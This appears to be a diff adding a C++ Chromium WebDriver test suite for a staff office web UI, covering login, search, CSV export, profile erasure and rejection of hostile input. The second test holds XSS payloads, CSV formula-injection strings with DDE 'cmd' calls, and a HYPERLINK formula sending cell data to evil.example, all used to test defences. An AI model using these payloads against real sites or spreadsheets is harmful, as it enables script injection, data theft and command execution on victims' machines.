@@ -1,0 +1,229 @@
+// The office UI in a real browser: Debian's headless Chromium, driven through chromedriver's
+// WebDriver API, against a real `sichtbar-hub serve` on loopback with records from a real
+// kiosk sync. Staff log in, search, open a profile, export the CSV (fetched with the browser's
+// session cookie and read back) and erase a profile with a reason. Then hostile input in every
+// text field a person (or a volunteer, or a kiosk's name) can fill: no script runs, no alert
+// opens, no element or attribute of the input's making appears on any office page, the text
+// shows as typed, and every CSV cell that would start a formula is neutralised.
+#include <catch2/catch.hpp>
+
+#include "support/csv.h"
+#include "support/office_ui.h"
+#include "support/profile_pages.h"
+#include "support/webdriver.h"
+
+using namespace sichtbar;
+using namespace sichtbar::test;
+using nlohmann::json;
+
+namespace {
+
+void log_in(ChromeBrowser& browser, Office& office) {
+  browser.go(office.url() + "/office/records");
+  REQUIRE(browser.url().ends_with("/office/login"));  // sent to the login page first
+  browser.type(browser.find("#user"), "anna");
+  browser.type(browser.find("#password"), kStaffPassword);
+  browser.click_to_next_page(browser.find("form button[type=submit]"));
+  REQUIRE(browser.url().ends_with("/office/records"));
+}
+
+// The CSV behind the page's export link, fetched with the browser's own session cookie.
+std::vector<std::vector<std::string>> exported_csv(ChromeBrowser& browser, Office& office) {
+  const std::string href = browser.attribute(browser.find("a[href^='/office/export.csv']"), "href");
+  const std::string path = href.substr(href.find("/office/"));
+  const std::string session = browser.cookie("sichtbar_office");
+  REQUIRE(!session.empty());
+  auto res = client_of(office)->Get(path.c_str(), {{"Cookie", "sichtbar_office=" + session}});
+  REQUIRE(res);
+  REQUIRE(res->status == 200);
+  return parse_office_csv(res->body);
+}
+
+std::string cell(const std::vector<std::vector<std::string>>& rows, std::size_t row,
+                 const std::string& column) {
+  const auto& header = rows.at(0);
+  const auto at = std::find(header.begin(), header.end(), column);
+  INFO("column " << column);
+  REQUIRE(at != header.end());
+  return rows.at(row).at(static_cast<std::size_t>(at - header.begin()));
+}
+
+// Nothing of the hostile input ran or became part of the page.
+void check_nothing_ran(ChromeBrowser& browser, const std::string& page) {
+  INFO("page " << page);
+  CHECK_FALSE(browser.alert_open());
+  CHECK(browser.execute("return window.__xss === undefined;") == true);
+  // The office pages have no script, image, frame or vector graphic of their own.
+  CHECK(browser.execute("return document.querySelectorAll("
+                        "'script, img, svg, iframe, object, embed, style, base').length;") == 0);
+  CHECK(browser.execute("return [...document.querySelectorAll('*')].filter(e => [...e.attributes]"
+                        ".some(a => a.name.startsWith('on'))).length;") == 0);
+  // Every form posts to the hub itself.
+  CHECK(browser.execute("return [...document.forms].every(f => new URL(f.action).origin === "
+                        "location.origin);") == true);
+  CHECK(browser.execute("return [...document.links].every(a => a.href.startsWith("
+                        "location.origin + '/'));") == true);
+}
+
+}  // namespace
+
+TEST_CASE(
+    "Chromium: staff log in, search, open a profile, export the CSV and erase with a reason") {
+  Office office;
+  Kiosk kiosk{office.tmp_ / "kiosk"};
+  kiosk.enroll(office);
+  fill_answers(kiosk, demo_answers("Amanuel Tesfaye", "Augsburg"), "a.json");
+  fill_answers(kiosk, demo_answers("Rania Al-Hassan", "Köln"), "b.json");
+  REQUIRE(kiosk.run({"sync"}).exit_code == 0);
+  add_office_user(office, "anna");
+  ChromeBrowser browser;
+  log_in(browser, office);
+  CHECK(browser.text(browser.find("h1")) == "Profile");
+  CHECK(browser.count("table.records tbody tr") == 2);
+
+  // Search, as typed, forgiving the case.
+  browser.type(browser.find("#f-q"), "AUGSBURG");
+  browser.click_to_next_page(browser.find("form.filter button[type=submit]"));
+  CHECK(browser.url().find("q=AUGSBURG") != std::string::npos);
+  REQUIRE(browser.count("table.records tbody tr") == 1);
+  CHECK(browser.text(browser.find("table.records tbody a")) == "Amanuel Tesfaye");
+
+  // The CSV of what is shown.
+  const auto rows = exported_csv(browser, office);
+  REQUIRE(rows.size() == 2);
+  CHECK(cell(rows, 1, "about.name") == "Amanuel Tesfaye");
+  CHECK(cell(rows, 1, "about.place_of_residence") == "Augsburg");
+  CHECK(cell(rows, 1, "work.items[1].tasks") ==
+        "Hausinstallationen, Schaltschränke, Solaranlagen auf Dächern");
+
+  // The profile, then its erasure with a reason.
+  browser.click_to_next_page(browser.find("table.records tbody a"));
+  CHECK(browser.text(browser.find(".person-name")) == "Amanuel Tesfaye");
+  browser.click_to_next_page(browser.find("a.button.danger"));
+  CHECK(browser.text(browser.find("h1")) == "Profil endgültig löschen?");
+  browser.type(browser.find("#reason"), "Widerruf per E-Mail vom 27.11.");
+  browser.click_to_next_page(browser.find("button.danger[type=submit]"));
+  CHECK(browser.text(browser.find("h1")) == "Profil gelöscht");
+  browser.go(office.url() + "/office/records?q=augsburg");
+  CHECK(browser.count("table.records tbody tr") == 0);
+  browser.go(office.url() + "/office/records");
+  CHECK(browser.count("table.records tbody tr") == 1);
+  CHECK(office.records_at_hub() == 1);
+  browser.go(office.url() + "/office/audit");
+  CHECK(browser.source().find("Widerruf per E-Mail vom 27.11.") != std::string::npos);
+
+  // On a phone's screen (412 x 915 CSS pixels) the pages keep to its width (the tables scroll
+  // inside their box) and the keyboard's first stop skips to the content; screenshots for a
+  // person to look at go to <build>/office-pages/.
+  const std::filesystem::path shots = std::filesystem::path(SICHTBAR_BUILD_DIR) / "office-pages";
+  std::filesystem::create_directories(shots);
+  browser.resize(412, 915);
+  for (const std::string page : {"records", "kiosks", "audit"}) {
+    INFO(page);
+    browser.go(office.url() + "/office/" + page);
+    CHECK(browser.execute("return document.documentElement.scrollWidth <= "
+                          "document.documentElement.clientWidth;") == true);
+    CHECK(browser.execute("return document.querySelector('body > a').getAttribute('href');") ==
+          "#main");
+    const auto png = shots / ("office-" + page + "-phone.png");
+    std::filesystem::remove(png);
+    browser.screenshot(png);
+    REQUIRE(std::filesystem::exists(png));
+    CHECK(read_file(png).substr(1, 3) == "PNG");
+  }
+  browser.resize(1280, 900);
+  browser.go(office.url() + "/office/records");
+  browser.screenshot(shots / "office-records.png");
+
+  // Logging out ends the session in the browser too.
+  browser.click_to_next_page(browser.find("form.logout button"));
+  CHECK(browser.url().ends_with("/office/login"));
+  browser.go(office.url() + "/office/records");
+  CHECK(browser.url().ends_with("/office/login"));
+}
+
+TEST_CASE("Chromium: hostile input in every field runs nowhere, and the CSV neutralises it") {
+  const std::vector<std::string> hostile = {
+      "<script>window.__xss=1;alert(1)</script>",
+      "\"><img src=x onerror=\"window.__xss=2;alert(2)\">",
+      "'><svg onload=\"window.__xss=3;alert(3)\">",
+      "=HYPERLINK(\"http://evil.example/?\"&A1,\"klick\")",
+      "+cmd|' /C calc'!A0",
+      "-2+3+cmd|' /C calc'!A0",
+      "@SUM(1+1)*cmd|' /C calc'!A0",
+      "</bdi></td></tr></table><form action=//evil.example><button>x</button></form>",
+      "<a href=\"javascript:window.__xss=4\">klick</a><style>*{display:none}</style>",
+  };
+  Office office;
+  Kiosk kiosk{office.tmp_ / "kiosk"};
+  {
+    auto r = kiosk.run(
+        {"enroll", "--hub", office.url(), "--code", office.enroll_code(), "--name", hostile[1]});
+    INFO(r.out << r.err);
+    REQUIRE(r.exit_code == 0);
+    r = kiosk.run({"setup", "--event-name", hostile[0], "--event-date", "2026-11-28",
+                   "--event-kind", "football", "--venue", hostile[2]});
+    INFO(r.err);
+    REQUIRE(r.exit_code == 0);
+  }
+  json a = demo_answers(hostile[3], hostile[1]);
+  json& answers = a["answers"];
+  answers["education"]["items"][0]["title"] = hostile[0];
+  answers["education"]["items"][0]["institution"] = hostile[2];
+  answers["work"]["items"][0]["job_title"] = hostile[4];
+  answers["work"]["items"][0]["tasks"] = hostile[5] + "\n" + hostile[7];
+  answers["skills"]["other"] = hostile[6];
+  answers["sports"] = {{"foreign_licence", hostile[8]}, {"referee_level", hostile[7]}};
+  answers["wishes"]["region"] = hostile[2];
+  fill_answers(kiosk, a, "hostile.json");
+  REQUIRE(kiosk.run({"sync"}).exit_code == 0);
+  add_office_user(office, "anna");
+
+  ChromeBrowser browser;
+  log_in(browser, office);
+  check_nothing_ran(browser, "list");
+  // The name is shown as it was typed, as text.
+  CHECK(browser.text(browser.find("table.records tbody a")) == hostile[3]);
+  // Searching with hostile text keeps it in the field as text, and finds the record.
+  browser.type(browser.find("#f-q"), "\"><img src=x onerror=alert(1)> hyperlink");
+  browser.click_to_next_page(browser.find("form.filter button[type=submit]"));
+  check_nothing_ran(browser, "search");
+  CHECK(browser.count("table.records tbody tr") == 1);
+  // The filter's choices show the event's name as text.
+  CHECK(
+      browser.text(browser.find("#f-event option[value]:not([value=''])")).starts_with(hostile[0]));
+
+  const auto rows = exported_csv(browser, office);
+  REQUIRE(rows.size() == 2);
+  for (const auto& value : rows[1]) {
+    INFO("cell " << value);
+    CHECK(!(value.starts_with("=") || value.starts_with("+") || value.starts_with("-") ||
+            value.starts_with("@") || value.starts_with("\t") || value.starts_with("\r")));
+  }
+  CHECK(cell(rows, 1, "about.name") == "'" + hostile[3]);
+  CHECK(cell(rows, 1, "work.items[1].job_title") == "'" + hostile[4]);
+  CHECK(cell(rows, 1, "work.items[1].tasks") == "'" + hostile[5] + "\n" + hostile[7]);
+  CHECK(cell(rows, 1, "skills.other") == "'" + hostile[6]);
+  CHECK(cell(rows, 1, "education.items[1].title") == hostile[0]);  // no formula: as typed
+  CHECK(cell(rows, 1, "event.name") == hostile[0]);
+
+  browser.click_to_next_page(browser.find("table.records tbody a"));
+  check_nothing_ran(browser, "profile");
+  const std::string shown = browser.execute("return document.body.innerText;").get<std::string>();
+  for (const std::string& h : {hostile[0], hostile[2], hostile[4], hostile[6], hostile[8]}) {
+    INFO("shown as text: " << h);
+    CHECK(shown.find(h) != std::string::npos);
+  }
+  browser.click_to_next_page(browser.find("a.button.danger"));
+  check_nothing_ran(browser, "erase confirmation");
+  browser.type(browser.find("#reason"), hostile[1]);
+  browser.click_to_next_page(browser.find("button.danger[type=submit]"));
+  check_nothing_ran(browser, "erased");
+  browser.go(office.url() + "/office/kiosks");
+  check_nothing_ran(browser, "kiosks");
+  CHECK(browser.execute("return document.body.innerText;").get<std::string>().find(hostile[1]) !=
+        std::string::npos);
+  browser.go(office.url() + "/office/audit");
+  check_nothing_ran(browser, "audit log");
+  CHECK(office.records_at_hub() == 0);
+}
